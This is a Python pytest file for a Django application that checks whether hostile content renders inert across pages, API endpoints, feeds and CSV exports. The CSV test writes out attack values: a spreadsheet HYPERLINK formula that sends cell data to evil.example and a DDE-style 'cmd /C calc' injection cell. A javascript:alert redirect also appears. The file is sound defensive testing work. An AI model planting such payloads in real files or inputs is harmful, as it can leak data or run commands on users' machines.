"""Hostile content through every page, partial, feed, export and API endpoint: nothing runs.

Pages are every URL pattern of the resolver (tests/support/urls.py), so a new page is checked
without editing this file. HTML is parsed (tests/support/html_check.py): no script other than
/static/ ones, no on* / hx-on attributes, no javascript:/data: URLs, no style attributes, no
iframe/object/base/style elements.
"""

from __future__ import annotations

import csv
import io
import json
from urllib.parse import quote
from xml.etree import ElementTree

import pytest

from tests.security.conftest import HOSTILE
from tests.support.html_check import html_problems
from tests.support.urls import concrete, routes

pytestmark = pytest.mark.django_db

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _page_urls(objects: dict) -> list[str]:
    slug = objects["case"].slug
    urls = [concrete(r, objects) for r in routes()]
    urls = [f"{u}?case={slug}" if "/export/" in u or u.endswith("s/") else u for u in urls]
    return [
        *urls,
        "/search/?q=" + quote(HOSTILE),
        f"/search/?q={quote(HOSTILE)}&case={objects['case'].slug}",
        "/accounts/login/?next=" + quote("javascript:alert(1)"),
        f"/cases/{objects['case'].slug}/?q=" + quote(HOSTILE),
        "/review/?q=" + quote(HOSTILE),
    ]


# drf-spectacular's Swagger page loads its start-up script from itself (?script=), not inline.
SCRIPT_PATHS = ("/api/docs/?",)


def _check(url: str, response, *, allow_style: bool = False) -> list[str]:
    status = response.status_code
    if status >= 500:
        return [f"{url}: {status}"]
    kind = response.get("Content-Type", "")
    body = b"".join(response.streaming_content) if response.streaming else response.content
    text = body.decode(response.charset or "utf-8", errors="replace")
    out: list[str] = []
    if "html" in kind:
        found = html_problems(text, allow_style=allow_style, script_paths=SCRIPT_PATHS)
        out += [f"{url}: {p}" for p in found]
        if status == 200 and "Content-Security-Policy" not in response:
            out.append(f"{url}: no Content-Security-Policy header")
    elif "json" in kind and text.strip():
        try:
            if ".ndjson" in url:
                [json.loads(line) for line in text.splitlines() if line]
            else:
                json.loads(text)
        except ValueError as exc:
            out.append(f"{url}: JSON does not parse: {exc}")
    elif "xml" in kind or url.endswith(".atom"):
        try:
            root = ElementTree.fromstring(body)
        except ElementTree.ParseError as exc:
            return [f"{url}: XML does not parse: {exc}"]
        names = {el.tag.rsplit("}", 1)[-1].lower() for el in root.iter()}
        out += [f"{url}: hostile element <{n}> in XML" for n in names & {"script", "iframe"}]
    if status == 200 and response.get("X-Content-Type-Options") != "nosniff":
        out.append(f"{url}: no X-Content-Type-Options: nosniff")
    return out


@pytest.mark.parametrize("role", [None, "editor"])
def test_every_page_and_endpoint_renders_hostile_content_inert(client, hostile, users, role):
    client.raise_request_exception = False  # a crash is a 500 to record, not a test error
    if role:
        client.force_login(users[role])
    problems: list[str] = []
    checked = 0
    for url in _page_urls(hostile):
        for headers in ({}, {"HTTP_HX_REQUEST": "true"}):
            response = client.get(url, **headers)
            problems += _check(url, response)
            checked += response.status_code == 200
    assert checked >= 15, f"only {checked} pages answered 200: the fixtures no longer fit the URLs"
    assert not problems, "\n".join(dict.fromkeys(problems))


def test_browsable_api_renders_hostile_content_inert(client, hostile, users):
    """DRF's own templates carry inline CSS (blocked by our CSP, cosmetic); content must not."""
    client.force_login(users["analyst"])
    problems: list[str] = []
    api = [concrete(r, hostile) for r in routes() if r.pattern.startswith("api/v1/")]
    for url in api:
        response = client.get(url, HTTP_ACCEPT="text/html")
        problems += _check(url + " (text/html)", response, allow_style=True)
    assert not problems, "\n".join(dict.fromkeys(problems))


def test_pages_show_the_hostile_text_escaped_not_dropped(client, hostile):
    """Escaping, not deleting: a reader still sees what the source said, as text."""
    response = client.get(f"/articles/{hostile['article'].pk}/")
    assert response.status_code == 200
    assert "&lt;script&gt;alert" in response.content.decode()


def test_api_returns_hostile_text_verbatim_as_json(client, hostile):
    response = client.get(f"/api/v1/articles/{hostile['article'].pk}/")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/json")
    assert response.json()["text"] == hostile["article"].text


def test_csv_exports_do_not_start_cells_with_a_formula(client, hostile):
    """A cell starting with = + - @ runs as a formula when an analyst opens the CSV in a
    spreadsheet (OWASP "CSV injection"); exports must neutralise it (e.g. a leading ')."""
    event = hostile["event"]
    event.title = '=HYPERLINK("https://evil.example/?leak="&A1,"open")'
    event.save()
    article = hostile["article"]
    article.title = "@SUM(1+1)*cmd|' /C calc'!A0"
    article.save()
    problems = []
    for kind in ("articles", "links", "positions", "events"):
        url = f"/api/v1/export/{kind}.csv?case={hostile['case'].slug}"
        response = client.get(url)
        assert response.status_code == 200, url
        body = b"".join(response.streaming_content) if response.streaming else response.content
        for row in csv.reader(io.StringIO(body.decode())):
            problems += [f"{url}: {c[:60]!r}" for c in row if c.startswith(FORMULA_START)]
    assert not problems, "\n".join(problems)
